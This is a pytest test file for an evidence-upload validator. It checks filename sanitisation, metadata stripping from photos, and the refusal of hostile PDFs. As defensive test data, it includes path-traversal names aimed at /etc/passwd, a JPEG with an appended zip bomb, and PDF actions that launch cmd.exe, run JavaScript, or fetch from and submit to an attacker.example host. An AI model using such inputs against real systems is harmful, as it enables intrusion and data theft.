# --- accepted files ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "plain", "display"),
    [
        pytest.param("../../etc/passwd.jpg", True, "passwd.jpg", id="traversal"),
        pytest.param("../../etc/passwd.jpg", False, "passwd.jpg", id="traversal-encoded"),
        pytest.param("..\\..\\Windows\\System32\\evil.jpg", False, "evil.jpg", id="windows-traversal"),
        pytest.param("/var/lib/rightsguard/media/evidence/0123.jpg", False, "0123.jpg", id="absolute"),
        pytest.param("证据 照片\u202e gpj.jpg", False, "证据 照片 gpj.jpg", id="unicode-bidi-override"),
        pytest.param("evi\x00dence\x07\x1b[31m.jpg", False, "evidence[31m.jpg", id="nul-and-control"),
        pytest.param("line\r\nbreak\t.jpg", False, "linebreak.jpg", id="line-break"),
        pytest.param(".htaccess.jpg", False, "htaccess.jpg", id="dot-file"),
        pytest.param("e\u0301vidence.jpg", False, "\u00e9vidence.jpg", id="decomposed-accent"),
    ],
)
def test_any_name_is_stored_under_a_generated_name_and_shown_cleaned(
    channel, case, media, tmp_path, name, plain, display
):
    events = CaseEvent.objects.filter(case=case).count()
    attachment = channel.assert_accepted(channel.send(JPEG, name, "image/jpeg", plain_name=plain))
    assert attachment.original_name == display
    assert_stored_as_recorded(attachment, media)
    # Nothing was written anywhere but the one generated file (received under .incoming, which it has left).
    assert sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")) == [
        "media",
        "media/evidence",
        "media/evidence/.incoming",
        f"media/evidence/{attachment.stored_name}",
    ]
    event = CaseEvent.objects.filter(case=case).latest("id")
    assert (CaseEvent.objects.filter(case=case).count(), event.kind, event.data) == (
        events + 1,
        "attachment",
        {"attachment": attachment.pk, "name": display, "sha256": attachment.sha256},
    )


def test_a_photo_is_kept_without_exif_gps_xmp_comment_or_profile(channel, case, media):
    photo = gps_photo()
    # The upload does carry everything that must go.
    with Image.open(io.BytesIO(photo)) as original:
        assert dict(original.getexif().get_ifd(ExifTags.IFD.GPSInfo))[ExifTags.GPS.GPSMapDatum] == "WGS-84"
        assert {"exif", "xmp", "comment", "icc_profile"} <= set(original.info)
    for marker in (b"Exif\x00\x00", b"PhoneCo", b"WGS-84", b"secret-xmp-location", b"taken at home", b"ICC_PROFILE"):
        assert marker in photo

    attachment = channel.assert_accepted(channel.send(photo, "IMG_0042.JPG", "image/jpeg"))
    content = assert_stored_as_recorded(attachment, media)
    assert (attachment.original_name, attachment.content_type) == ("IMG_0042.JPG", "image/jpeg")
    with Image.open(io.BytesIO(content)) as kept:
        assert (kept.format, kept.size, kept.mode) == ("JPEG", (64, 48), "RGB")
        assert dict(kept.getexif()) == {}
        assert kept.info == BARE_JPEG_INFO
    # Only the JFIF header (APP0) precedes the picture data: no APP1 (EXIF, XMP), APP2 (ICC) or COM segment.
    assert [m for m in jpeg_markers(content) if 0xE0 <= m <= 0xEF or m == 0xFE] == [0xE0]
    for marker in (b"Exif", b"GPS", b"PhoneCo", b"WGS-84", b"secret-xmp", b"taken at home", b"ICC_PROFILE", b"xmpmeta"):
        assert marker not in content
    # The pixels are the photo's, re-encoded at the store's quality (the profile was sRGB already).
    assert content == reencoded_jpeg(photo)


def test_a_rotated_photo_is_stored_upright(channel, case, media):
    """EXIF orientation 6 (turn 90° clockwise to view) is applied to the pixels before the tag is dropped."""
    attachment = channel.assert_accepted(channel.send(gps_photo(orientation=6), "sideways.jpg", "image/jpeg"))
    content = assert_stored_as_recorded(attachment, media)
    with Image.open(io.BytesIO(content)) as kept:
        assert kept.size == (48, 64)
        assert dict(kept.getexif()) == {}
        top, bottom = kept.getpixel((24, 8)), kept.getpixel((24, 56))
    # The left (red) half of the sensor image is now on top, the right (blue) half below.
    assert (top[0] > 180 and top[2] < 60, bottom[0] < 60 and bottom[2] > 180) == (True, True)


def test_a_png_is_kept_without_text_exif_or_profile_chunks(channel, case, media):
    screen = png_with_text()
    assert png_chunks(screen) == [b"IHDR", b"iCCP", b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"IDAT", b"IEND"]
    attachment = channel.assert_accepted(channel.send(screen, "screen.png", "image/png"))
    content = assert_stored_as_recorded(attachment, media)
    assert png_chunks(content) == [b"IHDR", b"IDAT", b"IEND"]
    with Image.open(io.BytesIO(content)) as kept:
        assert (kept.format, kept.size, kept.info, dict(kept.getexif())) == ("PNG", (64, 48), {}, {})
        assert kept.tobytes() == halves().tobytes()  # lossless: every pixel as uploaded
    assert content == encoded(halves(), "PNG")


def test_an_archive_hidden_behind_a_jpeg_is_cut_off(channel, case, media):
    """A JPEG with a ZIP appended opens as either; only the picture is kept."""
    polyglot = JPEG + zip_bomb()
    with zipfile.ZipFile(io.BytesIO(polyglot)) as archive:
        assert archive.namelist() == ["zeros.bin"]
    attachment = channel.assert_accepted(channel.send(polyglot, "photo.jpg", "image/jpeg"))
    content = assert_stored_as_recorded(attachment, media)
    assert b"PK\x03\x04" not in content
    assert content == reencoded_jpeg(JPEG)


@functools.cache
def weasyprint_report() -> bytes:
    """A PDF as the project's own reports are written: fonts, compressed streams, a web link."""
    import weasyprint  # slow to import; only this test needs it

    html = (
        "<h1>Medical report</h1><p>诊断证明: bruising to the left forearm. <a href='https://example.org/'>Ref.</a></p>"
    )
    return weasyprint.HTML(string=html).write_pdf()


def pdf_with_owner_password_only() -> bytes:
    """Encrypted, but opened without a password (printing and copying restricted): common for bank statements."""
    writer = pdf_writer(pages=2)
    writer.encrypt("", "owner-secret", algorithm="AES-128")
    return written(writer)


ACCEPTED_PDFS = [
    pytest.param(lambda: pdf_document(pages=3), 3, id="pypdf-three-pages"),
    pytest.param(weasyprint_report, 1, id="weasyprint-report-with-link"),
    pytest.param(lambda: pdf_with_compressed_objects(b""), 1, id="compressed-object-streams"),
    pytest.param(pdf_with_owner_password_only, 2, id="owner-password-only"),
    pytest.param(
        lambda: pdf_with_page(
            b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] "
            b"/A << /S /URI /URI (https://example.org/) >> >>]"
        ),
        1,
        id="web-link",
    ),
]


@pytest.mark.parametrize(("build", "pages"), ACCEPTED_PDFS)
def test_a_real_pdf_is_kept_byte_for_byte(channel, case, media, build, pages):
    document = build()
    attachment = channel.assert_accepted(channel.send(document, "诊断证明.pdf", "application/pdf"))
    content = assert_stored_as_recorded(attachment, media)
    assert (content, attachment.content_type, attachment.original_name) == (document, "application/pdf", "诊断证明.pdf")
    assert len(PdfReader(io.BytesIO(content), strict=True).pages) == pages
    assert CaseEvent.objects.filter(case=case, kind="attachment").count() == 1


def fragmented_mp4() -> bytes:
    """A fragmented recording: the movie announces fragments, each a moof with its own media data."""
    fragment = box(b"moof", box(b"mfhd", bytes(8)) + box(b"traf", box(b"tfhd", bytes(8)))) + box(b"mdat", b"v" * 32)
    return ftyp(b"iso6") + box(b"moov", mvhd() + box(b"mvex", box(b"trex", bytes(24)))) + fragment + fragment


ACCEPTED_MP4S = [
    pytest.param(mp4_video, id="ftyp-isom-moov-mdat"),
    pytest.param(lambda: ftyp(b"mp42") + box(b"moov", mvhd()) + box(b"mdat", b"v" * 40, large=True), id="64-bit-size"),
    pytest.param(lambda: ftyp() + box(b"moov", mvhd()) + b"\x00\x00\x00\x00mdat" + b"v" * 40, id="last-box-to-end"),
    pytest.param(
        lambda: (
            ftyp() + box(b"free", bytes(16)) + box(b"mdat", b"v" * 40) + box(b"moov", mvhd()) + box(b"uuid", bytes(16))
        ),
        id="movie-after-media-with-free-and-uuid",
    ),
    pytest.param(fragmented_mp4, id="fragmented"),
]


@pytest.mark.parametrize("build", ACCEPTED_MP4S)
def test_a_real_mp4_is_kept_byte_for_byte(channel, case, media, build):
    video = build()
    attachment = channel.assert_accepted(channel.send(video, "bodycam.mp4", "video/mp4"))
    content = assert_stored_as_recorded(attachment, media)
    assert (content, attachment.content_type, attachment.original_name) == (video, "video/mp4", "bodycam.mp4")
    assert CaseEvent.objects.filter(case=case, kind="attachment").count() == 1


def test_every_kind_of_active_content_in_one_pdf_is_named(case, media):
    document = raw_pdf_with_catalog(
        b"/OpenAction << /S /Launch /F (cmd.exe) /Next << /S /JavaScript /JS (app.alert(1)) >> >> "
        b"/AcroForm << /Fields [] /XFA (<xdp/>) >> /Names << /EmbeddedFiles << /Names [] >> >>"
    )
    with pytest.raises(ValidationError) as refused:
        evidence.validate_and_store(SimpleUploadedFile("report.pdf", document), case=case)
    assert [(e.code, e.message) for e in refused.value.error_dict["file"]] == [
        ("pdf_active_content", PDF_JAVASCRIPT),
        ("pdf_active_content", PDF_LAUNCH),
        ("pdf_active_content", PDF_EMBEDDED),
        ("pdf_active_content", PDF_XFA),
    ]
    assert disk(media) == {}


def test_each_new_kind_of_outgoing_action_and_media_is_named_once(case, media):
    document = raw_pdf_with_catalog(
        b"/OpenAction << /S /GoToR /F (//attacker.example/x.pdf) /D [0 /Fit] "
        b"/Next [<< /S /SubmitForm /F (https://attacker.example/) >> << /S /Sound /Sound 4 0 R >> "
        b"<< /S /Rendition /OP 0 >> << /S /URI /URI (https://example.org/) >>] >>",
        b"<< /Type /Sound /R 8000 /Length 4 >>\nstream\n\x00\x00\x00\x00\nendstream",
    )
    with pytest.raises(ValidationError) as refused:
        evidence.validate_and_store(SimpleUploadedFile("report.pdf", document), case=case)
    assert [(e.code, e.message) for e in refused.value.error_dict["file"]] == [
        ("pdf_active_content", PDF_REMOTE),
        ("pdf_active_content", PDF_MEDIA),
    ]
    assert disk(media) == {}


def test_the_defaults_are_500_mib_per_case_and_60_megapixels(settings):
    assert (settings.RIGHTSGUARD_MAX_CASE_EVIDENCE_BYTES, settings.RIGHTSGUARD_MAX_IMAGE_PIXELS) == (
        500 * 1024 * 1024,
        60_000_000,
    )
    del settings.RIGHTSGUARD_MAX_CASE_EVIDENCE_BYTES, settings.RIGHTSGUARD_MAX_IMAGE_PIXELS
    assert (evidence.max_case_evidence_bytes(), evidence.max_image_pixels()) == (500 * 1024 * 1024, 60_000_000)
